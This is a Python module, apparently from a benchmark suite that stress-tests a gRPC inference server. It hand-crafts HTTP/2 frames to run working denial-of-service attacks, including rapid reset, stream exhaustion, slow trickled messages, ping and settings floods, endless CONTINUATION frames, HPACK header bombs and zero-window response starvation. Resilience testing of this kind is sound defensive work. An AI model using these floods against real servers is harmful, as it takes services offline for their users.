"""Attacks by frames of HTTP/2 (RFC 9113) that no client library would send."""

import asyncio
import contextlib
import socket
import struct
import threading
import time
from collections import defaultdict
from collections.abc import Callable, Iterable

from benchmarks.serving.hostile.images import segment
from benchmarks.serving.hostile.session import ATTACKER, INFERENCE, PATIENCE, VISION, Session
from protos.gen import vision_pb2 as vision
from tests.support import hostile_files

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
_HEAD_BYTES = 9
# Bytes that are sent before the connection is looked at again.
_PIECE = 64 << 10
_INFER = INFERENCE + "ModelInfer"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def begun(*settings: tuple[int, int]) -> bytes:
    """The start of a connection."""
    payload = b"".join(struct.pack(">HI", *setting) for setting in settings)
    return PREFACE + frame(SETTINGS, 0, 0, payload)


def fields(pairs: Iterable[tuple[str, str]]) -> bytes:
    """Headers in HPACK (RFC 7541), as literals that no table keeps."""
    found = b""
    for name, value in pairs:
        found += b"\0" + _text(name) + _text(value)
    return found


def _text(text: str) -> bytes:
    size = len(text)
    if size < 127:
        return bytes([size]) + text.encode()
    size -= 127
    head = bytearray([127])
    while size > 127:
        head.append(size & 127 | 128)
        size >>= 7
    return bytes([*head, size]) + text.encode()


def call_head(path: str = _INFER, *more: tuple[str, str]) -> bytes:
    """The headers of a gRPC call."""
    pairs = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"))
    return fields((*pairs, ("content-type", "application/grpc"), ("te", "trailers"), *more))


def opened_call(stream: int, data: bytes = b"", flags: int = 0) -> bytes:
    """A call whose message begins with `data`."""
    head = frame(HEADERS, END_HEADERS, stream, call_head())
    return head + (frame(DATA, flags, stream, data) if data or flags else b"")


class _Connection:
    """One connection. What comes is read: frames that end something are counted, and the windows
    are known of what may still be sent, by stream, 0 for all together."""

    def __init__(self, session: Session) -> None:
        self._session = session
        self.socket = socket.create_connection(
            session.grpc, timeout=PATIENCE, source_address=(ATTACKER, 0)
        )
        self.socket.setblocking(False)
        self.closed = False
        self.windows: defaultdict[int, int] = defaultdict(lambda: 65_535)
        self._come = bytearray()

    def send(self, data: bytes) -> bool:
        """Sends all, and reads what comes meanwhile; False where that was not to be."""
        view = memoryview(data)
        while view and not self.closed and not self._session.over:
            try:
                view = view[self.socket.send(view[:_PIECE]) :]
            except BlockingIOError:
                time.sleep(0.001)  # the server takes no more for now, which may be its defence
            except OSError:
                self.closed = True
            self.read()
        return not view and not self.closed

    def read(self) -> None:
        """Takes what has come."""
        try:
            while part := self.socket.recv(1 << 16):
                self._come += part
                self._note()
            self.closed = True
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True

    def _note(self) -> None:
        while len(self._come) >= _HEAD_BYTES:
            size = int.from_bytes(self._come[:3], "big")
            if len(self._come) < _HEAD_BYTES + size:
                return
            kind = self._come[3]
            stream = int.from_bytes(self._come[5:_HEAD_BYTES], "big")
            if kind in (GOAWAY, RST_STREAM):
                self._session.statuses["GOAWAY" if kind == GOAWAY else "RST_STREAM"] += 1
            elif kind == WINDOW:
                self.windows[stream] += int.from_bytes(self._come[_HEAD_BYTES:][:4], "big")
            del self._come[: _HEAD_BYTES + size]

    def wait(self) -> None:
        """Reads until the attack is over or the server has closed."""
        while not self.closed and not self._session.over:
            self.read()
            time.sleep(0.01)  # nothing else is done with this connection


async def _flood(
    session: Session, start: bytes, piece: Callable[[int], bytes], frames: int, connections: int = 2
) -> None:
    """Sends `start`, then `piece(0)`, `piece(1)`, ... of `frames` frames each, on each of some
    connections; anew where the server closes one."""
    lock = threading.Lock()

    def run() -> None:
        turns = 0
        while not session.over and turns < 50:
            turns += 1
            try:
                connection = _Connection(session)
            except OSError:
                with lock:
                    session.count("refused")
                time.sleep(0.05)  # an attacker who is refused tries again
                continue
            with connection.socket:
                number = 0
                sending = connection.send(start)
                while sending and not session.over and (data := piece(number)):
                    sending = connection.send(data)
                    number += 1
                    with lock:
                        session.sent += frames
                connection.wait()
                with lock:
                    session.count("closed" if connection.closed else "open")

    await asyncio.gather(*(asyncio.to_thread(run) for _ in range(connections)))


def _streams(number: int, each: int) -> range:
    """Ids of the streams of a piece, odd and rising."""
    return range(1 + 2 * each * number, 1 + 2 * each * (number + 1), 2)


async def rapid_reset(session: Session) -> None:
    """Calls that are opened and reset at once."""
    reset = struct.pack(">I", 8)

    def piece(number: int) -> bytes:
        return b"".join(
            opened_call(stream) + frame(RST_STREAM, 0, stream, reset)
            for stream in _streams(number, 200)
        )

    await _flood(session, begun(), piece, 400)


async def many_streams(session: Session) -> None:
    """Calls that are opened and never sent, as many as the server lets open, on 8 connections."""

    def piece(number: int) -> bytes:
        return b"".join(map(opened_call, _streams(number, 100))) if number < 100 else b""

    await _flood(session, begun(), piece, 100, connections=8)


async def trickled_messages(session: Session) -> None:
    """On each of 8 connections 100 calls whose messages of 31 MiB come as fast as the server lets
    them, but for their last bytes."""
    prefix = struct.pack(">BI", 0, 31 << 20)
    chunk = bytes(16 << 10)

    def run() -> None:
        with contextlib.suppress(OSError):
            connection = _Connection(session)
            with connection.socket:
                streams = dict.fromkeys(range(1, 201, 2), 30 << 20)
                connection.send(begun() + b"".join(opened_call(s, prefix) for s in streams))
                for stream in (0, *streams):
                    connection.windows[stream] -= len(prefix) * (1 if stream else len(streams))
                while not connection.closed and not session.over:
                    connection.read()
                    for stream, left in streams.items():
                        room = min(left, connection.windows[0], connection.windows[stream])
                        if room >= len(chunk):
                            connection.send(frame(DATA, 0, stream, chunk))
                            streams[stream] -= len(chunk)
                            connection.windows[0] -= len(chunk)
                            connection.windows[stream] -= len(chunk)
                    time.sleep(0.001)  # the server's windows open when it has read
        session.count("closed" if connection.closed else "open", 100)

    await asyncio.gather(*(asyncio.to_thread(run) for _ in range(8)))


async def pings(session: Session) -> None:
    """Pings without end."""
    many = b"".join(frame(PING, 0, 0, struct.pack(">Q", n)) for n in range(1000))
    await _flood(session, begun(), lambda _: many, 1000)


async def settings_frames(session: Session) -> None:
    """Settings without end, each of which changes every stream's window."""
    many = b"".join(
        frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + n % 2)) for n in range(1000)
    )
    await _flood(session, begun() + opened_call(1), lambda _: many, 1000)


async def continuations(session: Session) -> None:
    """Headers that go on without end, in frames of one field and of none."""
    field = fields([("x-a", "b" * 100)])

    def start(number: int) -> bytes:
        return frame(HEADERS, 0, 1, call_head()) if number == 0 else b""

    many = frame(CONTINUATION, 0, 1, field) * 500 + frame(CONTINUATION, 0, 1) * 500
    await _flood(session, begun(), lambda number: start(number) + many, 1000)


async def headers_bombs(session: Session) -> None:
    """Headers of the largest size, and one field of 4 KB that is referred to 4,000 times."""
    stored = b"\x40" + _text("x-a") + _text("b" * 4000)

    def piece(number: int) -> bytes:
        found = b""
        for stream in _streams(number, 10):
            block = call_head() + stored + b"\xbe" * 4000 if number == 0 else call_head()
            found += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        return found

    await _flood(session, begun(), piece, 10)


async def windows(session: Session) -> None:
    """Windows that grow past what is lawful, streams that depend on themselves, pushes, data of no
    bytes, frames of unknown kinds."""
    update = struct.pack(">I", (1 << 31) - 1)

    def piece(number: int) -> bytes:
        odd = number % 5
        stream = 1 + 2 * number
        if odd == 0:
            return frame(WINDOW, 0, 0, update) * 2
        if odd == 1:
            return opened_call(stream) + frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1))
        if odd == 2:
            return frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2) + call_head())
        if odd == 3:
            return opened_call(stream) + frame(DATA, 0, stream) * 1000
        return frame(200, 255, stream, bytes(1000)) * 100

    await _flood(session, begun(), piece, 100)


async def unread_answers(session: Session) -> None:
    """On each of 8 connections 16 calls that are answered by 16 MB into a window of nothing."""
    file = hostile_files.png(4000, 4000, depth=1)
    message = segment(file, mask_format=vision.MASK_FORMAT_RAW)
    whole = struct.pack(">BI", 0, len(message)) + message
    calls = b"".join(
        frame(HEADERS, END_HEADERS, stream, call_head(VISION + "Segment"))
        + frame(DATA, END_STREAM, stream, whole)
        for stream in range(1, 33, 2)
    )
    await _flood(session, begun((4, 0)), lambda n: b"" if n else calls, 16, connections=8)


ATTACKS = (
    rapid_reset,
    many_streams,
    trickled_messages,
    pings,
    settings_frames,
    continuations,
    headers_bombs,
    windows,
    unread_answers,
)
